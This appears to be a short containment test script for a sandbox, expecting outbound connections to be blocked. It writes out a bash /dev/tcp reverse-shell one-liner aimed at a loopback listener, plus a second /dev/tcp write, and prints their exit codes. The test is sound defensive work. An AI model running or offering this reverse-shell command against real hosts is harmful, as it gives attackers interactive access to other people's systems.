# expect: contained
# The bash one-liner reverse shell, to the host's loopback listener.
PORT=${HOST_LISTEN_PORT:-4444}
timeout 3 /bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"; echo "bash /dev/tcp: $?"
timeout 3 /bin/bash -c "echo REVERSE-SHELL-HELLO > /dev/tcp/127.0.0.1/$PORT"; echo "echo: $?"
